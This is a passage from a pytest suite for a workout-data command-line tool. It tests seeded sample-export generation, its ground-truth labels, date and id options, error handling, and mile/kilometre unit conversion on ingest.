def test_workouts_of_an_empty_store(run, store):
    assert json.loads(ok(run("--db", store, "workouts", "--format", "json")).stdout) == []
    assert ok(run("--db", store, "workouts", "--format", "csv")).stdout == ",".join(WORKOUT_FIELDS + CLASSIFICATION_FIELDS) + "\r\n"


# ---------------------------------------------------------------- sample

def read_export(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def sample(run, path, *args, truth=None):
    extra = ["--truth", truth] if truth else []
    return ok(run("sample", *args, "-o", path, *extra))


def test_sample_is_reproducible(run, tmp_path):
    a, b, c = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.csv"
    ta, tb, tc = tmp_path / "ta.csv", tmp_path / "tb.csv", tmp_path / "tc.csv"
    p = sample(run, a, "--rows", "1000", "--seed", "7", truth=ta)
    assert p.stdout == f"wrote 1,000 workouts to {a} (truth: {ta})\n"
    sample(run, b, "--rows", "1000", "--seed", "7", truth=tb)
    sample(run, c, "--rows", "1000", "--seed", "8", truth=tc)
    assert a.read_bytes() == b.read_bytes() and ta.read_bytes() == tb.read_bytes()
    assert a.read_bytes() != c.read_bytes() and ta.read_bytes() != tc.read_bytes()
    # seeds that differ only in their high 32 bits differ too
    d, e = tmp_path / "d.csv", tmp_path / "e.csv"
    sample(run, d, "--rows", "50", "--seed", str(1 << 32))
    sample(run, e, "--rows", "50", "--seed", str(2 << 32))
    assert d.read_bytes() != e.read_bytes()


@pytest.mark.parametrize("rows", [1, 2, 1000])
def test_sample_rows_and_truth_align_and_import_clean(run, tmp_path, store, rows):
    export, truth = tmp_path / "s.csv", tmp_path / "t.csv"
    sample(run, export, "--rows", str(rows), "--seed", "3", truth=truth)
    data = read_export(export)
    assert len(data) == rows
    assert list(data[0]) == EXPORT_COLUMNS
    ids = [int(r["Link"].rsplit("/", 1)[1]) for r in data]
    assert all(r["Link"] == f"{LINK}{i}" for r, i in zip(data, ids))
    with open(truth, newline="") as f:
        reader = csv.reader(f)
        assert next(reader) == ["workout_id", "kind"]
        kinds = list(reader)
    assert [int(k[0]) for k in kinds] == ids, "the truth file follows the export row by row"
    assert {k[1] for k in kinds} <= {"real_run", "pup_walk", "mixed", "outlier"}
    rec = json.loads(ok(run("--db", store, "ingest", "--json", export)).stdout)
    assert (rec["status"], rec["rows_added"], rec["rows_rejected"], rec["rows_duplicate"]) == \
        ("success", rows, 0, 0)
    assert rec["new_ids"] == sorted(ids)


def test_sample_dates_and_ids_follow_the_options(run, tmp_path, store):
    export, truth = tmp_path / "s.csv", tmp_path / "t.csv"
    sample(run, export, "--rows", "300", "--seed", "4", "--start", "2020-01-01", "--end",
           "Dec. 31, 2020", "--era", "2020-07-01", "--first-id", "5", truth=truth)
    ok(run("--db", store, "ingest", export))
    dates = [r[0] for r in query(store, "SELECT workout_date FROM workouts")]
    assert len(dates) == 300 and min(dates) >= "2020-01-01" and max(dates) <= "2020-12-31"
    assert query(store, "SELECT min(id) FROM workouts") == [(5,)]
    kinds = dict(csv.reader(open(truth, newline="")))
    walks_before = query(store, "SELECT id FROM workouts WHERE workout_date < '2020-07-01'")
    assert all(kinds[str(i)] != "pup_walk" for (i,) in walks_before), "no dog before the era"


def test_sample_unwritable_output_is_an_error(run, tmp_path):
    out = tmp_path / "no-such-folder" / "s.csv"
    p = ok(run("sample", "--rows", "10", "-o", out), 1)
    assert str(out) in p.stderr
    truth_out = tmp_path / "no-such-folder" / "t.csv"
    p = ok(run("sample", "--rows", "10", "-o", tmp_path / "ok.csv", "--truth", truth_out), 1)
    assert not (tmp_path / "ok.csv").exists(), "no partial sample is left behind"


def half_unit(text):
    """Half a unit in the last decimal place written in @text (the export's rounding)."""
    return 0.5 * 10.0 ** -(len(text.split(".")[1]) if "." in text else 0)


def test_sample_in_km_describes_the_same_workouts(run, tmp_path):
    mi, km = tmp_path / "mi.csv", tmp_path / "km.csv"
    sample(run, mi, "--rows", "2000", "--seed", "11")
    sample(run, km, "--rows", "2000", "--seed", "11", "--units", "km")
    km_rows = read_export(km)
    assert list(km_rows[0]) == [c.replace("(mi)", "(km)").replace("min/mi", "min/km")
                                .replace("mi/h", "km/h") for c in EXPORT_COLUMNS]
    mi_rows = read_export(mi)
    assert len(mi_rows) == len(km_rows) == 2000
    KM = 1.609344
    for a, b in zip(mi_rows, km_rows):
        for col in ("Link", "Workout Date", "Date Submitted", "Activity Type", "Workout Time (seconds)",
                    "Notes", "Calories Burned (kcal)", "Steps", "Avg Heart Rate", "Source"):
            assert a[col] == b[col], (a["Link"], col)
        # the same quantity, each rounded to the export's precision
        for col_mi, col_km, factor in (("Distance (mi)", "Distance (km)", KM),
                                       ("Avg Pace (min/mi)", "Avg Pace (min/km)", 1 / KM),
                                       ("Avg Speed (mi/h)", "Avg Speed (km/h)", KM)):
            x, y = a[col_mi], b[col_km]
            tol = half_unit(x) * factor + half_unit(y) + 1e-12
            assert abs(float(x) * factor - float(y)) <= tol, (a["Link"], col_mi, x, y)


def test_km_export_is_stored_in_miles(run, tmp_path):
    mi, km = tmp_path / "mi.csv", tmp_path / "km.csv"
    sample(run, mi, "--rows", "2000", "--seed", "11")
    sample(run, km, "--rows", "2000", "--seed", "11", "--units", "km")
    db_mi, db_km = tmp_path / "mi.db", tmp_path / "km.db"
    rec = json.loads(ok(run("--db", db_km, "ingest", "--json", km)).stdout)
    assert rec["rows_added"] == 2000 and rec["quality"]["units"] == "km"
    ok(run("--db", db_mi, "ingest", mi))
    KM = 1.609344
    cells = {int(r["Link"].rsplit("/", 1)[1]): r for r in read_export(km)}
    fields = "id, distance_mi, avg_pace, max_pace, avg_speed, max_speed, duration_s"
    stored_km = {r[0]: r for r in query(db_km, f"SELECT {fields} FROM workouts")}
    stored_mi = {r[0]: r for r in query(db_mi, f"SELECT {fields} FROM workouts")}
    assert stored_km.keys() == stored_mi.keys() == cells.keys()
    for wid, (_, dist, pace, max_pace, speed, max_speed, dur) in stored_km.items():
        c = cells[wid]
        assert math.isclose(dist, float(c["Distance (km)"]) / KM, rel_tol=1e-12, abs_tol=1e-15)
        assert math.isclose(pace, float(c["Avg Pace (min/km)"]) * KM, rel_tol=1e-12, abs_tol=1e-15)
        assert math.isclose(max_pace, float(c["Max Pace (min/km)"]) * KM, rel_tol=1e-12, abs_tol=1e-15)
        assert math.isclose(speed, float(c["Avg Speed (km/h)"]) / KM, rel_tol=1e-12, abs_tol=1e-15)
        assert math.isclose(max_speed, float(c["Max Speed (km/h)"]) / KM, rel_tol=1e-12, abs_tol=1e-15)
        assert dur == stored_mi[wid][6]
